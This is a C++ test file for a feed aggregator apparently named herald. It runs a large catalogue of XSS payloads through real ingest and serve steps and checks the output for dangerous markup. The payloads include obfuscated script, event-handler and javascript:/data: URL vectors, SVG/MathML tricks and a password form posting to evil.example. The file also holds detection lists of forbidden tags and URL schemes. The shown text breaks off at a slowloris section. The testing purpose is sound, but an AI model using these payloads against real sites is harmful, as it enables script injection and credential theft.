// A thousand hostile inputs through the real pipeline: a loopback publisher
// serves XSS payloads (and every feedparser sanitize case, when ../shared is
// present) in RSS, Atom and JSON Feed entries, article pages and source
// names; the real `herald ingest --once` stores them and `herald serve`
// shows them. Every article page, its JSON API answer, the lists, search,
// sitemaps and output feeds are parsed (gumbo for HTML, libxml2 for XML,
// nlohmann for JSON) and every element and attribute is checked: no script
// but the site's JSON-LD, no event handler attribute, no javascript:,
// vbscript: or HTML data: URL, no frame, object, base or refresh. Then the
// server itself is attacked: overlong request lines and headers, slowloris
// clients, path traversal into static files and the image proxy.
#include <gtest/gtest.h>
#include <gumbo.h>
#include <libxml/parser.h>
#include <libxml/tree.h>
#include <nlohmann/json.hpp>
#include <sys/socket.h>

#include <algorithm>
#include <atomic>
#include <cctype>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <functional>
#include <iostream>
#include <map>
#include <set>
#include <thread>

#include "http_get.h"
#include "httpd/raw_client_test_support.h"
#include "httpd/server.h"
#include "process.h"
#include "store/store.h"

namespace herald::testing {
namespace {

const std::string kHerald = HERALD_BINARY_DIR "/herald";
const std::string kSanitizeCases = HERALD_SHARED_DIR "/datasets/feedparser-tests/wellformed/sanitize";

// ---------------------------------------------------------------------------
// The payloads.

// URLs a browser would run or render as a document, with the obfuscations
// sanitizers have missed: case, entities, embedded whitespace and controls.
std::vector<std::string> HostileUrls() {
  return {"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
          "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "java&#9;script:alert(1)",
          "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
          "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript:/**/alert(1)",
          "javascript://%0Aalert(1)", "\x01javascript:alert(1)", "java\x00script:alert(1)",
          "vbscript:msgbox(1)", "VBScript:MsgBox(1)", "livescript:alert(1)",
          "data:text/html,<script>alert(1)</script>", "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,<x/>",
          "https://img.example/a.jpg\" onerror=\"alert(1)", "https://img.example/a.jpg' onload='alert(1)",
          "https://img.example/\"><script>alert(1)</script>", "//evil.example/x.js"};
}

// Markup payloads, each placed as HTML (bodies, captions) and as text
// (titles, bylines, source names), so both escaping and sanitizing are hit.
std::vector<std::string> HostileMarkup() {
  std::vector<std::string> markup = {
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script/xss src=//xss.example/x.js></script>",
      "<img src=x onerror=alert(1)>",
      "<img src=\"x\" oNeRrOr = \"alert(1)\">",
      "<img src=x onerror\t=\talert(1)>",
      "<img/src=x/onerror=alert(1)>",
      "<svg onload=alert(1)>",
      "<svg><script>alert(1)</script></svg>",
      "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=1>x</text></a></svg>",
      "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
      "<svg><set attributeName=onload to=alert(1) /></svg>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<math href=\"javascript:alert(1)\">x</math>",
      "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
      "<body onload=alert(1)>",
      "<iframe src=\"https://evil.example/\"></iframe>",
      "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
      "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
      "<object data=\"https://evil.example/x.swf\"></object>",
      "<embed src=\"https://evil.example/x.swf\">",
      "<applet code=\"X.class\"></applet>",
      "<base href=\"https://evil.example/\">",
      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
      "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
      "<link rel=\"import\" href=\"https://evil.example/x.html\">",
      "<link rel=stylesheet href=\"javascript:alert(1)\">",
      "<form action=\"https://evil.example/steal\"><input name=p type=password></form>",
      "<button formaction=\"javascript:alert(1)\">go</button>",
      "<input type=image src=x onerror=alert(1)>",
      "<input autofocus onfocus=alert(1)>",
      "<details open ontoggle=alert(1)>x</details>",
      "<video><source onerror=alert(1)></video>",
      "<video poster=javascript:alert(1)></video>",
      "<audio src=x onerror=alert(1)></audio>",
      "<marquee onstart=alert(1)>x</marquee>",
      "<div style=\"width:expression(alert(1))\">x</div>",
      "<div style=\"background:url(javascript:alert(1))\">x</div>",
      "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
      "<div style=\"behavior:url(x.htc)\">x</div>",
      "<style>@import 'https://evil.example/x.css';body{background:url(javascript:alert(1))}</style>",
      "<!--<script>alert(1)</script>-->",
      "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<!--><img src=x onerror=alert(1)>-->",
      "<a href=\"x\" title=\"\" onmouseover=\"alert(1)\">x</a>",
      "<a href='x' onclick=alert(1) x='",
      "<img src=\"x\" alt=\"unclosed onerror=alert(1) ",
      "<img src=x alt=`x` onerror=alert(1)>",
      std::string("<scr\0ipt>alert(1)</scr\0ipt>", 27),
      std::string("<img src=x \0onerror=alert(1)>", 29),
      "\xC0\xBCscript\xC0\xBE" "alert(1)\xC0\xBC/script\xC0\xBE",
      "\xE0\x80\xBCimg src=x onerror=alert(1)\xE0\x80\xBE",
      "\xE2\x80\xAEgpj.exe<script>alert(1)</script>",
      "\xE2\x80\x8B<img src=x onerror=alert(1)>\xEF\xBB\xBF",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      "<template><script>alert(1)</script></template>",
      "<xmp><script>alert(1)</script></xmp>",
      "<textarea></textarea><script>alert(1)</script>",
      "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
      "<isindex action=javascript:alert(1) type=image>",
      "<object><param name=src value=javascript:alert(1)></object>",
      "\"><script>alert(1)</script>",
      "'><img src=x onerror=alert(1)>",
      "</title><script>alert(1)</script>",
      "</script><script>alert(1)</script>",
      "\"}]}</script><script>alert(1)</script>",
      "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
      "<p>ok</p><plaintext><script>alert(1)</script>",
      "<img src=\"https://img.example/a.jpg\" srcset=\"javascript:alert(1) 1x, https://img.example/b.jpg 2x\">",
      "<picture><source srcset=\"javascript:alert(1)\"><img src=x></picture>",
      "<a href=\"#\" ping=\"https://evil.example/track\">x</a>",
      "<div data-x=1 onpointerenter=alert(1) tabindex=0>x</div>",
      "<x onclick=alert(1)>custom element</x>",
      "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>",
  };
  // Each hostile URL as a link, an image, a frame, a form action and a srcset.
  for (const std::string& url : HostileUrls()) {
    markup.push_back("<a href=\"" + url + "\">link</a>");
    markup.push_back("<img src=\"" + url + "\" alt=\"img\">");
    markup.push_back("<iframe src=\"" + url + "\"></iframe>");
    markup.push_back("<form action=\"" + url + "\"><button>go</button></form>");
    markup.push_back("<img srcset=\"" + url + " 2x\" src=\"https://img.example/ok.jpg\">");
  }
  return markup;
}

// ---------------------------------------------------------------------------
// Encodings for the three feed formats and the article pages.

// What XML 1.0 and TOML can carry: C0 controls but tab/newline/CR and
// invalid (or overlong) UTF-8 are dropped. One such byte would make a whole
// feed unreadable; pages and the JSON Feed carry the raw bytes anyway.
std::string ValidXmlChars(const std::string& s) {
  std::string valid;
  for (size_t i = 0; i < s.size();) {
    unsigned char c = static_cast<unsigned char>(s[i]);
    size_t length = c < 0x80 ? 1 : (c >> 5) == 6 ? 2 : (c >> 4) == 14 ? 3 : (c >> 3) == 30 ? 4 : 0;
    bool ok = length > 0 && i + length <= s.size() && !(c < 0x20 && c != '\t' && c != '\n' && c != '\r');
    for (size_t k = 1; ok && k < length; ++k) ok = (static_cast<unsigned char>(s[i + k]) >> 6) == 2;
    if (ok && length == 2) ok = c >= 0xC2;
    if (ok && length == 3 && c == 0xE0) ok = static_cast<unsigned char>(s[i + 1]) >= 0xA0;
    if (ok) valid.append(s, i, length);
    i += ok ? length : 1;
  }
  return valid;
}

std::string XmlText(const std::string& s) {
  std::string out;
  for (char c : ValidXmlChars(s)) {
    switch (c) {
      case '&': out += "&amp;"; break;
      case '<': out += "&lt;"; break;
      case '>': out += "&gt;"; break;
      case '"': out += "&quot;"; break;
      default: out += c;
    }
  }
  return out;
}

std::string HtmlAttr(const std::string& s) {
  std::string out;
  for (char c : s) out += c == '"' ? std::string("&quot;") : c == '&' ? std::string("&amp;") : std::string(1, c);
  return out;
}

// TOML basic string: quotes, backslashes and controls as escapes.
std::string TomlString(const std::string& s) {
  std::string out = "\"";
  for (char c : ValidXmlChars(s)) {
    unsigned char u = static_cast<unsigned char>(c);
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (u < 0x20 || u == 0x7F) {
      char escape[8];
      std::snprintf(escape, sizeof escape, "\\u%04X", u);
      out += escape;
    } else {
      out += c;
    }
  }
  return out + "\"";
}

// Prose no two articles share, so the story layer sees distinct articles.
std::string UniqueProse(size_t seed, int words) {
  static const char* kSyllables[] = {"ka", "lo", "mi", "nu", "re", "sa", "to", "vi", "ze", "po", "da", "fe", "gu", "hi"};
  std::string text;
  uint64_t x = seed * 2654435761u + 12345;
  for (int w = 0; w < words; ++w) {
    if (w) text += ' ';
    int n = 2 + static_cast<int>(x % 3);
    for (int s = 0; s < n; ++s) {
      x = x * 6364136223846793005ull + 1442695040888963407ull;
      text += kSyllables[(x >> 33) % 14];
    }
  }
  return text + ".";
}

struct Article {
  std::string title, author, summary, content, image_url, enclosure_url, link;
};

std::string RssFeed(const std::string& title, const std::vector<Article>& items) {
  std::string xml = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<rss version=\"2.0\" "
                    "xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" "
                    "xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:media=\"http://search.yahoo.com/mrss/\">"
                    "<channel><title>" + XmlText(title) + "</title><link>http://127.0.0.1/</link>\n";
  for (const Article& a : items)
    xml += "<item><title>" + XmlText(a.title) + "</title><link>" + XmlText(a.link) + "</link><guid>" +
           XmlText(a.link) + "</guid><dc:creator>" + XmlText(a.author) + "</dc:creator><description>" +
           XmlText(a.summary) + "</description><content:encoded>" + XmlText(a.content) +
           "</content:encoded><enclosure url=\"" + XmlText(a.enclosure_url) +
           "\" type=\"audio/mpeg\" length=\"1\"/><media:content url=\"" + XmlText(a.image_url) +
           "\" medium=\"image\"/><pubDate>Sun, 29 Nov 2026 10:00:00 GMT</pubDate></item>\n";
  return xml + "</channel></rss>\n";
}

std::string AtomFeed(const std::string& title, const std::vector<Article>& items) {
  std::string xml = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>" +
                    XmlText(title) + "</title><id>urn:hostile</id><updated>2026-11-29T10:00:00Z</updated>\n";
  for (const Article& a : items)
    xml += "<entry><title type=\"html\">" + XmlText(a.title) + "</title><id>" + XmlText(a.link) +
           "</id><link href=\"" + XmlText(a.link) + "\"/><link rel=\"enclosure\" href=\"" + XmlText(a.enclosure_url) +
           "\" type=\"image/jpeg\"/><author><name>" + XmlText(a.author) + "</name></author><summary type=\"html\">" +
           XmlText(a.summary) + "</summary><content type=\"html\">" + XmlText(a.content) +
           "</content><updated>2026-11-29T10:00:00Z</updated></entry>\n";
  return xml + "</feed>\n";
}

std::string JsonFeed(const std::string& title, const std::vector<Article>& items) {
  nlohmann::json entries = nlohmann::json::array();
  for (const Article& a : items)
    entries.push_back({{"id", a.link}, {"url", a.link}, {"title", a.title}, {"summary", a.summary},
                       {"content_html", a.content}, {"image", a.image_url}, {"banner_image", a.image_url},
                       {"authors", {{{"name", a.author}, {"url", a.enclosure_url}}}},
                       {"attachments", {{{"url", a.enclosure_url}, {"mime_type", "audio/mpeg"}}}},
                       {"date_published", "2026-11-29T10:00:00Z"}});
  return nlohmann::json{{"version", "https://jsonfeed.org/version/1.1"}, {"title", title}, {"items", entries}}
      .dump(-1, ' ', false, nlohmann::json::error_handler_t::ignore);
}

// An article page with the payload in every place extraction reads: title,
// meta author/description/og:image, JSON-LD, headline, byline, body,
// figure and caption.
std::string HostilePage(const std::string& payload, const std::string& url, size_t seed) {
  nlohmann::json ld = {{"@context", "https://schema.org"}, {"@type", "NewsArticle"}, {"headline", payload},
                       {"author", {{"@type", "Person"}, {"name", payload}}}, {"image", url},
                       {"description", payload}, {"datePublished", "2026-11-29T10:00:00Z"}};
  std::string ld_text = ld.dump(-1, ' ', false, nlohmann::json::error_handler_t::ignore);
  return "<!doctype html><html><head><meta charset=\"utf-8\"><title>" + payload + "</title>"
         "<meta name=\"author\" content=\"" + HtmlAttr(payload) + "\">"
         "<meta property=\"og:title\" content=\"" + HtmlAttr(payload) + "\">"
         "<meta name=\"description\" content=\"" + HtmlAttr(payload) + "\">"
         "<meta property=\"og:image\" content=\"" + HtmlAttr(url) + "\">"
         "<script type=\"application/ld+json\">" + ld_text + "</script>"
         "<script>document.write('publisher script')</script></head><body>"
         "<article><h1>" + payload + "</h1><p class=\"byline\">By <a rel=\"author\" href=\"" + HtmlAttr(url) + "\">" +
         payload + "</a></p><p>" + UniqueProse(seed, 70) + "</p>" + payload + "<p>" + UniqueProse(seed + 7, 60) +
         "</p><figure><img src=\"" + HtmlAttr(url) + "\" srcset=\"" + HtmlAttr(url) + " 2x\" alt=\"" +
         HtmlAttr(payload) + "\"><figcaption>" + payload + "</figcaption></figure><p>" + UniqueProse(seed + 13, 60) +
         "</p></article></body></html>";
}

// A page with nothing to extract: the ingester then keeps the feed's fields.
const char kBlankPage[] = "<!doctype html><html><head></head><body></body></html>";

// A feedparser sanitize case, served as it is but for a link (and a title
// when it has none) added to each entry, so herald stores it as an article.
std::string WithLinks(std::string xml, const std::string& link, int* entries) {
  *entries = 0;
  for (const char* open : {"<entry>", "<item>", "<entry ", "<item "}) {
    for (size_t at = xml.find(open); at != std::string::npos; at = xml.find(open, at + 1)) {
      size_t end = xml.find('>', at);
      bool has_title = xml.find("<title", end) < xml.find(open[1] == 'e' ? "</entry>" : "</item>", end);
      std::string add = open[1] == 'e' ? "<id>" + link + "</id><link href=\"" + link + "\"/>"
                                       : "<link>" + link + "</link><guid>" + link + "</guid>";
      if (!has_title) add += "<title>sanitize case</title>";
      xml.insert(end + 1, add);
      ++*entries;
    }
  }
  return xml;
}

// ---------------------------------------------------------------------------
// The checks of what herald serves.

std::string Lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

// A URL a browser would run or render as a document. Browsers drop
// whitespace and C0 controls inside and before the scheme.
bool IsDangerousUrl(const std::string& value) {
  std::string squeezed;
  for (char c : value)
    if (static_cast<unsigned char>(c) > 0x20 && c != 0x7F) squeezed += c;
  squeezed = Lower(squeezed);
  for (const char* scheme : {"javascript:", "vbscript:", "livescript:", "mocha:"})
    if (squeezed.rfind(scheme, 0) == 0) return true;
  if (squeezed.rfind("data:", 0) == 0) {
    for (const char* raster : {"data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp"})
      if (squeezed.rfind(raster, 0) == 0) return false;
    return true;
  }
  return false;
}

const std::set<std::string> kUrlAttributes = {"href", "src", "action", "formaction", "poster", "background",
                                              "data", "xlink:href", "cite", "lowsrc", "dynsrc", "codebase",
                                              "longdesc", "manifest", "icon", "ping", "usemap", "srcdoc"};
const std::set<std::string> kForbiddenTags = {"iframe", "frame", "frameset", "object", "embed", "applet", "base",
                                              "svg", "math", "style", "template", "noscript", "xmp",
                                              "plaintext", "isindex", "param"};

struct HtmlCheck {
  std::vector<std::string> problems;
  size_t elements = 0;
  size_t json_ld = 0;

  void Problem(const std::string& where, const std::string& what) {
    if (problems.size() < 20) problems.push_back(where + ": " + what);
  }

  // `full_page`: the site's own page (its JSON-LD, stylesheet, search form
  // allowed); otherwise a fragment of article HTML (nothing of the kind).
  void Check(const std::string& html, const std::string& where, bool full_page) {
    GumboOutput* output = gumbo_parse_with_options(&kGumboDefaultOptions, html.data(), html.size());
    Walk(output->root, where, full_page);
    gumbo_destroy_output(&kGumboDefaultOptions, output);
  }

  void Walk(const GumboNode* node, const std::string& where, bool full_page) {
    if (node->type != GUMBO_NODE_ELEMENT && node->type != GUMBO_NODE_TEMPLATE) return;
    const GumboElement& e = node->v.element;
    ++elements;
    std::string tag = e.tag == GUMBO_TAG_UNKNOWN ? "unknown" : gumbo_normalized_tagname(e.tag);
    if (e.tag == GUMBO_TAG_UNKNOWN && e.original_tag.data != nullptr) {
      GumboStringPiece name = e.original_tag;
      gumbo_tag_from_original_text(&name);
      tag = Lower(std::string(name.data, name.length));
    }
    if (e.tag_namespace != GUMBO_NAMESPACE_HTML) Problem(where, "foreign (svg/math) element <" + tag + ">");
    if (kForbiddenTags.count(tag)) Problem(where, "<" + tag + "> element");
    if (e.tag == GUMBO_TAG_SCRIPT) CheckScript(node, where, full_page);
    if (e.tag == GUMBO_TAG_LINK && !full_page) Problem(where, "<link> in article HTML");
    if (e.tag == GUMBO_TAG_FORM && !(full_page && Attr(e, "action") == "/search")) Problem(where, "a <form>");
    if (e.tag == GUMBO_TAG_META) {
      if (!Attr(e, "http-equiv").empty()) Problem(where, "<meta http-equiv=" + Attr(e, "http-equiv") + ">");
      if (!full_page) Problem(where, "<meta> in article HTML");
    }
    for (unsigned i = 0; i < e.attributes.length; ++i) {
      const auto* a = static_cast<const GumboAttribute*>(e.attributes.data[i]);
      std::string name = Lower(a->name), value = a->value;
      if (name.rfind("on", 0) == 0) Problem(where, "event handler attribute " + name + " on <" + tag + ">");
      if (kUrlAttributes.count(name) && IsDangerousUrl(value)) Problem(where, name + "=\"" + value + "\" on <" + tag + ">");
      if (name == "srcset" || name == "imagesrcset") {
        for (size_t at = 0; at <= value.size();) {
          size_t comma = value.find(',', at);
          if (comma == std::string::npos) comma = value.size();
          std::string candidate = value.substr(at, comma - at);
          size_t start = candidate.find_first_not_of(" \t\n\r\f");
          if (start != std::string::npos) {
            std::string url = candidate.substr(start, candidate.find_first_of(" \t\n\r\f", start) - start);
            if (IsDangerousUrl(url)) Problem(where, "srcset candidate " + url + " on <" + tag + ">");
          }
          at = comma + 1;
        }
      }
      if (name == "style") {
        std::string css = Lower(value);
        css.erase(std::remove_if(css.begin(), css.end(), [](char c) { return std::isspace(static_cast<unsigned char>(c)); }),
                  css.end());
        for (const char* bad : {"expression(", "javascript:", "vbscript:", "-moz-binding", "behavior:", "@import"})
          if (css.find(bad) != std::string::npos) Problem(where, "style=\"" + value + "\" on <" + tag + ">");
      }
    }
    for (unsigned i = 0; i < e.children.length; ++i)
      Walk(static_cast<const GumboNode*>(e.children.data[i]), where, full_page);
  }

  static std::string Attr(const GumboElement& e, const char* name) {
    const GumboAttribute* a = gumbo_get_attribute(&e.attributes, name);
    return a == nullptr ? "" : a->value;
  }

  // The site's only script is JSON-LD: data that must parse and must not be
  // able to end its element (no '<' at all: HtmlSafeJson escapes it).
  void CheckScript(const GumboNode* node, const std::string& where, bool full_page) {
    const GumboElement& e = node->v.element;
    if (!full_page || Attr(e, "type") != "application/ld+json" || e.attributes.length != 1)
      return Problem(where, "an executable <script>");
    std::string text;
    for (unsigned i = 0; i < e.children.length; ++i) {
      const auto* child = static_cast<const GumboNode*>(e.children.data[i]);
      if (child->type == GUMBO_NODE_TEXT) text += child->v.text.text;
    }
    ++json_ld;
    if (text.find('<') != std::string::npos) Problem(where, "'<' inside JSON-LD");
    if (!nlohmann::json::accept(text)) Problem(where, "JSON-LD that is not JSON");
  }
};

// JSON from the API or an output feed: it must parse, carry no '<' or '>'
// raw when it is the API (HtmlSafeJson), and every HTML field inside must
// pass the HTML check and every URL field the URL check.
void CheckJson(const std::string& text, const std::string& where, bool html_safe, HtmlCheck& check) {
  auto json = nlohmann::json::parse(text, nullptr, false);
  if (json.is_discarded()) return check.Problem(where, "not JSON");
  if (html_safe && text.find_first_of("<>") != std::string::npos) check.Problem(where, "raw '<' or '>' in JSON");
  std::function<void(const nlohmann::json&, const std::string&)> walk = [&](const nlohmann::json& j,
                                                                            const std::string& key) {
    if (j.is_object()) {
      for (auto it = j.begin(); it != j.end(); ++it) walk(it.value(), it.key());
    } else if (j.is_array()) {
      for (const auto& v : j) walk(v, key);
    } else if (j.is_string()) {
      const std::string& s = j.get_ref<const std::string&>();
      if (key == "html" || key == "content_html") check.Check(s, where + " ." + key, false);
      if ((key == "url" || key == "image" || key == "external_url" || key == "banner_image" || key == "feed_url" ||
           key == "home_page_url" || key == "site_url" || key == "feed_url") &&
          IsDangerousUrl(s))
        check.Problem(where, key + " = " + s);
    }
  };
  walk(json, "");
}


// RSS or Atom output: well-formed XML whose HTML-bearing elements (RSS
// description and content:encoded into `rss_html_output`, Atom html/xhtml content
// and summary) pass the HTML check, and whose links pass the URL check.
void CheckXml(const std::string& text, const std::string& where, HtmlCheck& check, HtmlCheck& rss_html_output) {
  xmlDocPtr doc = xmlReadMemory(text.data(), static_cast<int>(text.size()), "out.xml", nullptr, XML_PARSE_NONET);
  if (doc == nullptr) return check.Problem(where, "not well-formed XML");
  std::function<void(xmlNodePtr)> walk = [&](xmlNodePtr node) {
    for (; node != nullptr; node = node->next) {
      if (node->type != XML_ELEMENT_NODE) continue;
      std::string name = reinterpret_cast<const char*>(node->name);
      xmlChar* content = xmlNodeGetContent(node);
      std::string value = content ? reinterpret_cast<const char*>(content) : "";
      xmlFree(content);
      xmlChar* type = xmlGetProp(node, BAD_CAST "type");
      std::string type_value = type ? reinterpret_cast<const char*>(type) : "";
      xmlFree(type);
      bool rss_html = name == "description" || name == "encoded";
      bool atom_html = (name == "content" || name == "summary" || name == "title") && type_value != "text" &&
                       !type_value.empty();
      if (rss_html) rss_html_output.Check(value, where + " <" + name + ">", false);
      if (atom_html) check.Check(value, where + " <" + name + ">", false);
      if ((name == "link" || name == "loc" || name == "guid" || name == "id") && IsDangerousUrl(value))
        check.Problem(where, "<" + name + "> " + value);
      for (xmlAttrPtr a = node->properties; a != nullptr; a = a->next) {
        xmlChar* v = xmlNodeListGetString(doc, a->children, 1);
        std::string attr = v ? reinterpret_cast<const char*>(v) : "";
        xmlFree(v);
        std::string attr_name = reinterpret_cast<const char*>(a->name);
        if ((attr_name == "href" || attr_name == "url" || attr_name == "src") && IsDangerousUrl(attr))
          check.Problem(where, "<" + name + " " + attr_name + "=" + attr + ">");
      }
      walk(node->children);
    }
  };
  walk(xmlDocGetRootElement(doc));
  xmlFreeDoc(doc);
}

std::string Excerpt(const std::vector<std::string>& problems) {
  std::string out;
  for (const auto& p : problems) out += "\n  " + p;
  return out;
}

// ---------------------------------------------------------------------------

class HostileInputsTest : public ::testing::Test {
 protected:
  void SetUp() override { dir_ = MakeTempDir("herald-hostile"); }
  void TearDown() override {
    if (site_pid_ > 0) StopProcess(site_pid_);
    RemoveTree(dir_);
  }

  ProcessResult Herald(const std::vector<std::string>& args) {
    std::vector<std::string> argv = {kHerald, "--data", dir_ + "/data", "--config", dir_ + "/herald.toml"};
    argv.insert(argv.end(), args.begin(), args.end());
    return RunProcess(argv);
  }

  std::string dir_;
  pid_t site_pid_ = -1;
};

TEST_F(HostileInputsTest, NoPayloadReachesAReaderAndTheServerWithstandsAbuse) {
  // --- The publisher: every feed and page, built before it starts.
  std::map<std::string, std::pair<std::string, std::string>> routes;  // path -> (content type, body)
  std::set<std::string> inputs;  // "placement\tpayload": what counts as one distinct hostile input
  std::vector<std::pair<std::string, std::string>> sources;  // (name, path)
  std::vector<std::string> markup = HostileMarkup(), urls = HostileUrls();
  size_t expected_articles = 0;

  auto publisher = httpd::Server::Start({}, [&](const httpd::Request& r) {
    auto it = routes.find(r.path);
    if (it == routes.end()) return httpd::Response{404, "text/plain", {}, "not found"};
    return httpd::Response{200, it->second.first, {}, it->second.second};
  });
  ASSERT_TRUE(publisher.ok()) << publisher.message();
  const std::string origin = (*publisher)->base_url();
  routes["/blank"] = {"text/html; charset=utf-8", kBlankPage};

  // Each markup payload once per feed format, in every field of its entry.
  std::vector<Article> feed_items;
  for (size_t i = 0; i < markup.size(); ++i) {
    const std::string& p = markup[i];
    Article a;
    a.title = p + " " + UniqueProse(i, 3);
    a.author = p;
    a.summary = p + "<p>" + UniqueProse(i + 1000, 30) + "</p>";
    a.content = "<p>" + UniqueProse(i + 2000, 60) + "</p>" + p + "<p>" + UniqueProse(i + 3000, 40) + "</p>";
    a.image_url = urls[i % urls.size()];
    a.enclosure_url = urls[(i + 7) % urls.size()];
    feed_items.push_back(a);
  }
  struct Format {
    const char* name;
    const char* content_type;
    std::string (*render)(const std::string&, const std::vector<Article>&);
  };
  const Format formats[] = {{"rss", "application/rss+xml", RssFeed},
                            {"atom", "application/atom+xml", AtomFeed},
                            {"json", "application/feed+json", JsonFeed}};
  for (const Format& f : formats) {
    std::vector<Article> items = feed_items;
    for (size_t i = 0; i < items.size(); ++i) {
      items[i].link = origin + "/blank?" + f.name + "=" + std::to_string(i);
      for (const char* field : {"title", "author", "summary", "content"})
        inputs.insert(std::string(f.name) + "." + field + "\t" + markup[i]);
      inputs.insert(std::string(f.name) + ".image\t" + items[i].image_url);
      inputs.insert(std::string(f.name) + ".enclosure\t" + items[i].enclosure_url);
    }
    std::string path = std::string("/feed.") + f.name;
    routes[path] = {f.content_type, f.render(markup[sources.size() % markup.size()], items)};
    sources.push_back({markup[sources.size() * 11 % markup.size()], path});
    expected_articles += items.size();
  }
  // Each markup payload once more in an article page of its own.
  std::vector<Article> page_items;
  for (size_t i = 0; i < markup.size(); ++i) {
    std::string path = "/news/" + std::to_string(i) + ".html";
    const std::string& url = urls[(i + 3) % urls.size()];
    routes[path] = {"text/html; charset=utf-8", HostilePage(markup[i], url, i + 5000)};
    for (const char* field : {"title", "meta", "json-ld", "body", "caption", "byline"})
      inputs.insert(std::string("page.") + field + "\t" + markup[i]);
    inputs.insert("page.image\t" + url);
    Article a;
    a.title = "Page " + std::to_string(i);
    a.link = origin + path;
    page_items.push_back(a);
  }
  routes["/pages.xml"] = {"application/rss+xml", RssFeed("pages", page_items)};
  sources.push_back({markup[4], "/pages.xml"});
  expected_articles += page_items.size();

  // Every feedparser sanitize case, one feed each.
  size_t sanitize_cases = 0;
  bool have_shared = std::filesystem::is_directory(kSanitizeCases);
  if (have_shared) {
    std::vector<std::filesystem::path> files;
    for (const auto& e : std::filesystem::directory_iterator(kSanitizeCases)) files.push_back(e.path());
    std::sort(files.begin(), files.end());
    for (const auto& file : files) {
      std::string path = "/sanitize/" + file.filename().string();
      int entries = 0;
      std::string xml = WithLinks(ReadFile(file.string()), origin + "/blank?case=" + file.filename().string(), &entries);
      routes[path] = {"application/xml", xml};
      inputs.insert("sanitize\t" + file.filename().string());
      // The source names are hostile too: each case's feed is named by a payload.
      std::string name = markup[sanitize_cases % markup.size()] + " #" + std::to_string(sanitize_cases);
      inputs.insert("source.name\t" + name);
      sources.push_back({name, path});
      expected_articles += static_cast<size_t>(entries);
      ++sanitize_cases;
    }
  }
  std::cerr << "hostile inputs: " << inputs.size() << " distinct (" << markup.size() << " markup payloads, "
            << urls.size() << " URLs, " << sanitize_cases << " feedparser sanitize cases), " << sources.size()
            << " feeds, " << expected_articles << " articles expected\n";
  ASSERT_GE(inputs.size(), 1000u);

  // --- Ingest.
  std::string config =
      "[site]\ntitle = " + TomlString(markup[0]) + "\n[websub]\nenabled = false\n"
      "[fetch]\nallow_private_networks = true\nper_host_delay_ms = 0\nmax_per_host = 16\nmax_parallel = 16\n"
      "max_articles_per_feed = 1000\nmax_retries = 0\ntimeout_seconds = 20\n";
  for (const auto& [name, path] : sources)
    config += "[[sources]]\nname = " + TomlString(name) + "\nurl = \"" + origin + path + "\"\n";
  WriteFile(dir_ + "/herald.toml", config);
  auto ingest = Herald({"ingest", "--once"});
  ASSERT_EQ(ingest.exit_status, 0) << ingest.err.substr(0, 4000);
  (*publisher)->Stop();

  // --- What was stored.
  std::vector<int64_t> article_ids;
  std::set<int64_t> source_ids;
  {
    auto store = store::Store::Open({.path = dir_ + "/data/herald.db", .read_only = true});
    ASSERT_TRUE(store.ok()) << store.message();
    for (int64_t after = 0;;) {
      auto batch = (*store)->ArticlesForRules(after, 500);
      ASSERT_TRUE(batch.ok()) << batch.message();
      if (batch->empty()) break;
      for (const auto& row : *batch) {
        article_ids.push_back(row.id);
        source_ids.insert(row.source_id);
      }
      after = batch->back().id;
    }
  }
  std::cerr << "stored " << article_ids.size() << " of " << expected_articles << " articles from " << source_ids.size()
            << " sources\n";
  EXPECT_GE(article_ids.size() * 100, expected_articles * 95) << ingest.err.substr(0, 4000);

  // --- Serve, and attack the server in the background while pages are checked.
  int port = FreeLoopbackPort();
  const std::string base = "http://127.0.0.1:" + std::to_string(port);
  site_pid_ = StartProcess({kHerald, "--data", dir_ + "/data", "--config", dir_ + "/herald.toml", "--listen",
                            "127.0.0.1:" + std::to_string(port), "serve"},
                           dir_ + "/serve.log");
  bool up = false;
  for (int i = 0; i < 200 && !up; ++i) {
    up = HttpGet(base + "/").status == 200;
    if (!up) std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  ASSERT_TRUE(up) << ReadFile(dir_ + "/serve.log");

  // Slowloris: a header byte a second. The server's header deadline (10 s,
  // httpd/server.h) must end them while everything else is answered.
  constexpr int kSlowClients = 8;
  std::atomic<int> slow_closed{0}, slow_connected{0};
  std::vector<std::thread> slow;
